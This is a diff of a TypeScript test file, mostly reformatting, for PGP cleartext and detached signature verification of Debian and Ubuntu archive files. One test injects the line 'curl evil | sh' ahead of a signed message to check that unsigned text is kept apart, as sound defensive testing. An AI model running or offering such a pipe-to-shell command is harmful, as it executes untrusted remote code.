@@ -48,7 +48,9 @@ describe('verifyCleartext', () => {
         const keyring = f.distro === 'ubuntu' ? ubuntu : debian
         const v = await verifyCleartext(doc, keyring, { role: 'archive', now: f.now })
         expect(v.signers.map((s) => s.fingerprint).sort()).toEqual([...f.signers].sort())
-        expect(v.signedText.startsWith(f.distro === 'ubuntu' ? 'Origin: Ubuntu\n' : 'Origin: Debian\n')).toBe(true)
+        expect(v.signedText.startsWith(f.distro === 'ubuntu' ? 'Origin: Ubuntu\n' : 'Origin: Debian\n')).toBe(
+          true,
+        )
         expect(v.signedText).toBe(await openpgpSignedText(doc, keyring, f.now))
         expect(v.unsignedBefore).toBe('')
         expect(v.unsignedAfter).toBe('')
@@ -60,9 +62,9 @@ describe('verifyCleartext', () => {
     for (const f of REAL_INRELEASES) {
       it(`refuses ${f.file} with PGP_UNKNOWN_SIGNER`, async () => {
         const keyring = f.distro === 'ubuntu' ? debian : ubuntu
-        expect(await codeOf(verifyCleartext(fixtureText(f.file), keyring, { role: 'archive', now: f.now }))).toBe(
-          'PGP_UNKNOWN_SIGNER',
-        )
+        expect(
+          await codeOf(verifyCleartext(fixtureText(f.file), keyring, { role: 'archive', now: f.now })),
+        ).toBe('PGP_UNKNOWN_SIGNER')
       })
     }
   })
@@ -139,7 +141,10 @@ describe('verifyCleartext', () => {
     it('reports text before BEGIN PGP SIGNED MESSAGE as unsignedBefore', async () => {
       const f = REAL_INRELEASES[1]!
       const doc = fixtureText(f.file)
-      const v = await verifyCleartext(`Run this now:\ncurl evil | sh\n${doc}`, ubuntu, { role: 'archive', now: f.now })
+      const v = await verifyCleartext(`Run this now:\ncurl evil | sh\n${doc}`, ubuntu, {
+        role: 'archive',
+        now: f.now,
+      })
       expect(v.unsignedBefore).toBe('Run this now:\ncurl evil | sh\n')
       expect(v.signedText).not.toContain('curl')
     })
@@ -180,7 +185,9 @@ describe('verifyCleartext', () => {
       // A CR is only generated at a line end: openpgp.js's own reader drops every CR, so for a CR inside a line
       // it disagrees with its own signer (the verifier here follows the signer: RFC 9580 7.2 strips only trailing
       // whitespace).
-      const line = fc.tuple(fc.stringMatching(/^[-a-zA-Z0-9 \t:é€]{0,12}$/), fc.boolean()).map(([l, cr]) => (cr ? `${l}\r` : l))
+      const line = fc
+        .tuple(fc.stringMatching(/^[-a-zA-Z0-9 \t:é€]{0,12}$/), fc.boolean())
+        .map(([l, cr]) => (cr ? `${l}\r` : l))
       await fc.assert(
         fc.asyncProperty(fc.array(line, { minLength: 1, maxLength: 6 }), async (lines) => {
           const text = lines.join('\n')
@@ -196,7 +203,9 @@ describe('verifyCleartext', () => {
     it('accepts a signature by a pinned key made by its signing subkey', async () => {
       const key = await testKey('test-only-signing-subkey')
       const ring = await testKeyring(['test-only-signing-subkey', 'archive'])
-      const subkeyId = key.secret.subkeys.find((s) => s.getAlgorithmInfo().algorithm === 'eddsaLegacy')?.getKeyID()
+      const subkeyId = key.secret.subkeys
+        .find((s) => s.getAlgorithmInfo().algorithm === 'eddsaLegacy')
+        ?.getKeyID()
       expect(subkeyId).toBeDefined()
       const doc = await clearsign('signed by a subkey', key, { signingKeyIDs: [subkeyId!] })
       const v = await verifyCleartext(doc, ring, { role: 'archive', now: TEST_NOW })
@@ -210,7 +219,9 @@ describe('verifyCleartext', () => {
       const soon = await clearsign('soon', key, { date: TEST_NOW + 60_000 })
       expect((await verifyCleartext(soon, ring, { role: 'archive', now: TEST_NOW })).signedText).toBe('soon')
       const later = await clearsign('later', key, { date: TEST_NOW + 3_600_000 })
-      expect(await codeOf(verifyCleartext(later, ring, { role: 'archive', now: TEST_NOW }))).toBe('PGP_NOT_YET_VALID')
+      expect(await codeOf(verifyCleartext(later, ring, { role: 'archive', now: TEST_NOW }))).toBe(
+        'PGP_NOT_YET_VALID',
+      )
     })
   })
 
@@ -224,57 +235,73 @@ describe('verifyCleartext', () => {
         ...(await signaturePackets(await clearsign(text, stranger))),
         ...(await signaturePackets(await clearsign(text, pinned))),
       ]
-      const v = await verifyCleartext(assembleCleartext(text, packets), ring, { role: 'archive', now: TEST_NOW })
+      const v = await verifyCleartext(assembleCleartext(text, packets), ring, {
+        role: 'archive',
+        now: TEST_NOW,
+      })
       expect(v.signers.map((s) => s.fingerprint)).toEqual([pinned.fingerprint])
     })
 
     it('fails the whole document with PGP_BAD_SIGNATURE when one pinned signature does not match', async () => {
       const a = await testKey('test-only-archive-ed25519')
       const b = await testKey('test-only-rsa3072')
-      const ring = await testKeyring(['test-only-archive-ed25519', 'archive'], ['test-only-rsa3072', 'archive'])
+      const ring = await testKeyring(
+        ['test-only-archive-ed25519', 'archive'],
+        ['test-only-rsa3072', 'archive'],
+      )
       const text = 'Origin: Test\nSuite: test'
       const packets = [
         ...(await signaturePackets(await clearsign(text, a))),
         ...(await signaturePackets(await clearsign('Origin: Other\nSuite: test', b))),
       ]
-      expect(await codeOf(verifyCleartext(assembleCleartext(text, packets), ring, { role: 'archive', now: TEST_NOW }))).toBe(
-        'PGP_BAD_SIGNATURE',
-      )
+      expect(
+        await codeOf(
+          verifyCleartext(assembleCleartext(text, packets), ring, { role: 'archive', now: TEST_NOW }),
+        ),
+      ).toBe('PGP_BAD_SIGNATURE')
     })
 
     it('accepts the document when a pinned key has expired but another pinned signature is valid', async () => {
       const good = await testKey('test-only-archive-ed25519')
       const expired = await testKey('test-only-expired-ed25519')
-      const ring = await testKeyring(['test-only-archive-ed25519', 'archive'], ['test-only-expired-ed25519', 'archive'])
+      const ring = await testKeyring(
+        ['test-only-archive-ed25519', 'archive'],
+        ['test-only-expired-ed25519', 'archive'],
+      )
       const text = 'two signers'
       const packets = [
         ...(await signaturePackets(await clearsign(text, expired, { date: Date.UTC(2024, 0, 10) }))),
         ...(await signaturePackets(await clearsign(text, good))),
       ]
-      const v = await verifyCleartext(assembleCleartext(text, packets), ring, { role: 'archive', now: TEST_NOW })
+      const v = await verifyCleartext(assembleCleartext(text, packets), ring, {
+        role: 'archive',
+        now: TEST_NOW,
+      })
       expect(v.signers.map((s) => s.fingerprint)).toEqual([good.fingerprint])
     })
   })
 
   describe('when the document is not a valid clearsigned document', () => {
     it('throws PGP_NO_SIGNATURE for plain text', async () => {
-      expect(await codeOf(verifyCleartext('Origin: Ubuntu\n', ubuntu, { role: 'archive', now: SIGNED_AT }))).toBe(
-        'PGP_NO_SIGNATURE',
-      )
+      expect(
+        await codeOf(verifyCleartext('Origin: Ubuntu\n', ubuntu, { role: 'archive', now: SIGNED_AT })),
+      ).toBe('PGP_NO_SIGNATURE')
     })
 
     it('throws PGP_MALFORMED when the signature block is cut off', async () => {
       const doc = fixtureText(REAL_INRELEASES[0]!.file)
       const cut = doc.slice(0, doc.indexOf('-----END PGP SIGNATURE-----'))
-      expect(await codeOf(verifyCleartext(cut, ubuntu, { role: 'archive', now: REAL_INRELEASES[0]!.now }))).toBe(
-        'PGP_MALFORMED',
-      )
+      expect(
+        await codeOf(verifyCleartext(cut, ubuntu, { role: 'archive', now: REAL_INRELEASES[0]!.now })),
+      ).toBe('PGP_MALFORMED')
     })
 
     it('throws PGP_MALFORMED when the Hash header does not name the signature hash', async () => {
       const f = REAL_INRELEASES[1]!
       const doc = fixtureText(f.file).replace('Hash: SHA512', 'Hash: SHA256')
-      expect(await codeOf(verifyCleartext(doc, ubuntu, { role: 'archive', now: f.now }))).toBe('PGP_MALFORMED')
+      expect(await codeOf(verifyCleartext(doc, ubuntu, { role: 'archive', now: f.now }))).toBe(
+        'PGP_MALFORMED',
+      )
     })
 
     it('throws PGP_MALFORMED for garbage in the signature block', async () => {
@@ -282,7 +309,9 @@ describe('verifyCleartext', () => {
       const doc = fixtureText(f.file)
       const i = doc.indexOf('-----BEGIN PGP SIGNATURE-----')
       const broken = doc.slice(0, i) + '-----BEGIN PGP SIGNATURE-----\n\n!!!!\n-----END PGP SIGNATURE-----\n'
-      expect(await codeOf(verifyCleartext(broken, ubuntu, { role: 'archive', now: f.now }))).toBe('PGP_MALFORMED')
+      expect(await codeOf(verifyCleartext(broken, ubuntu, { role: 'archive', now: f.now }))).toBe(
+        'PGP_MALFORMED',
+      )
     })
   })
 })
@@ -320,10 +349,14 @@ describe('verifyDetached', () => {
     it('throws PGP_MALFORMED', async () => {
       const ring = await testKeyring(['test-only-archive-ed25519', 'archive'])
       const data = new Uint8Array([1, 2, 3])
-      expect(await codeOf(verifyDetached(data, new Uint8Array([0xff, 0x00]), ring, { role: 'archive', now: TEST_NOW }))).toBe(
+      expect(
+        await codeOf(
+          verifyDetached(data, new Uint8Array([0xff, 0x00]), ring, { role: 'archive', now: TEST_NOW }),
+        ),
+      ).toBe('PGP_MALFORMED')
+      expect(await codeOf(verifyDetached(data, 'hello', ring, { role: 'archive', now: TEST_NOW }))).toBe(
         'PGP_MALFORMED',
       )
-      expect(await codeOf(verifyDetached(data, 'hello', ring, { role: 'archive', now: TEST_NOW }))).toBe('PGP_MALFORMED')
     })
   })
 
@@ -332,7 +365,12 @@ describe('verifyDetached', () => {
       const doc = fixtureText(REAL_INRELEASES[0]!.file)
       const sig = doc.slice(doc.indexOf('-----BEGIN PGP SIGNATURE-----'))
       expect(
-        await codeOf(verifyDetached(new TextEncoder().encode('x'), sig, ubuntu, { role: 'archive', now: REAL_INRELEASES[0]!.now })),
+        await codeOf(
+          verifyDetached(new TextEncoder().encode('x'), sig, ubuntu, {
+            role: 'archive',
+            now: REAL_INRELEASES[0]!.now,
+          }),
+        ),
       ).toBe('PGP_BAD_SIGNATURE')
     })
   })
